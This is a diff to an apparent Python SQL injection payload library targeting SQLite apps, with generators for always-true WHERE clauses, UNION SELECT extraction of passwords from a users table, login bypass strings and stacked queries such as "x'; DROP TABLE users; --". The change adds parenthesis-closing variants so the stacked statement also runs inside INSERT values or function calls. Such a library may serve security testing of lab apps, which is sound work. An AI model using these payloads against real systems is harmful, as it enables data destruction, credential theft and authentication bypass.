@@ -8,7 +8,7 @@ and `""` (empty) for a value placed in a numeric context.
     tautologies()                         # ' OR '1'='1 ... : a WHERE clause that is always true
     terminated("alice@example.com")       # alice@example.com'-- : the rest of the query cut off
     union_select("password", "users", columns=range(1, 5))
-    stacked("DROP TABLE users")           # '; DROP TABLE users; --
+    stacked("DROP TABLE users")           # x'; DROP TABLE users; --   x'); DROP TABLE users; --
 
 SQLite is the target dialect (the apps use /app/db.sqlite3): its comments are `--` and `/* */`
 (`#` is not a comment in SQLite, so it is not used).
@@ -76,10 +76,19 @@ def union_select(expression: str, table: str, columns: Iterable[int] = (1,),
     return out
 
 
-def stacked(statement: str, quotes: Sequence[str] = ("'", '"', "")) -> list[str]:
-    """`'; <statement>; --`: a second statement after the intended one (works where the driver
-    runs several statements, e.g. sqlite3's executescript)."""
-    return [f"x{q}; {statement}; --" for q in quotes]
+def stacked(statement: str, quotes: Sequence[str] = ("'", '"', ""),
+            close_paren: bool = True) -> list[str]:
+    """`x'; <statement>; --`: a second statement after the intended one (works where the driver
+    runs several statements, e.g. sqlite3's executescript). With `close_paren`, also
+    `x'); <statement>; --` for each quote: the value is the last one inside parentheses, as in
+    `INSERT ... VALUES (..., '<value>')` or a function call, where the first form is a syntax
+    error and the stacked statement never runs."""
+    out: list[str] = []
+    for q in quotes:
+        out.append(f"x{q}; {statement}; --")
+        if close_paren:
+            out.append(f"x{q}); {statement}; --")
+    return out
 
 
 def login_bypass(quotes: Sequence[str] = QUOTES) -> list[str]:
